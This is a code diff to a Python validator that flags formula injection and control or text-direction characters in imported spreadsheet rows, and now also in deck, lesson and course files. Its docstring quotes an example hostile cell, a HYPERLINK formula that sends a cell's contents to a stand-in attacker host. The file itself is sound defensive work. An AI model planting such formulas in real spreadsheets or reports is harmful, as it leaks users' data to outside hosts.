@@ -1,4 +1,5 @@
-"""Checks on imported spreadsheet rows for text that is dangerous where Matte shows it again.
+"""Checks on imported content (spreadsheet rows, content files) for text that is dangerous where Matte
+shows it again.
 
 A shared deck is written by someone else. A cell such as `=HYPERLINK("http://evil.example/?"&D2,...)`
 would come back as a live formula in the instructor's CSV report, and an ESC sequence or a U+202E
@@ -12,9 +13,12 @@ when a function call, a cell reference or another formula sign follows.
 from __future__ import annotations
 
 import re
+from collections.abc import Iterator
+from typing import Any
 
 from bot.text_safety import unsafe_characters
 
+ITEM = re.compile(r"items\[\d+\]")
 ALWAYS_FORMULA = frozenset("=＝\t")
 SIGNS = frozenset("+-@＋－＠")
 FORMULA_PARTS = re.compile(r"[A-Za-z_][\w.]*\s*\(|\$?\b[A-Za-z]{1,3}\$?\d+\b|[=|!]")
@@ -45,3 +49,19 @@ def row_problems(row: dict[str | None, str | list[str] | None]) -> list[str]:
             if codes:
                 found.append(f"{name} contains control or text-direction characters ({', '.join(codes)})")
     return found
+
+
+def unsafe_texts(data: Any) -> Iterator[tuple[str, str, str]]:
+    """(item id or "", where, message) for each string in a parsed content file (deck, lesson or
+    course) with control or text-direction characters. Formulas are not looked for here: these files
+    are not spreadsheets, and reports neutralise formulas anyway."""
+    stack: list[tuple[Any, str, str]] = [(data, "", "")]
+    while stack:
+        value, where, item_id = stack.pop()
+        if isinstance(value, dict):
+            item_id = str(value.get("id", "")) if ITEM.fullmatch(where) else item_id
+            stack += [(v, f"{where}.{k}" if where else str(k), item_id) for k, v in value.items()]
+        elif isinstance(value, list):
+            stack += [(v, f"{where}[{n}]", item_id) for n, v in enumerate(value)]
+        elif isinstance(value, str) and (codes := unsafe_characters(value)):
+            yield item_id, where, f"contains control or text-direction characters ({', '.join(codes)})"
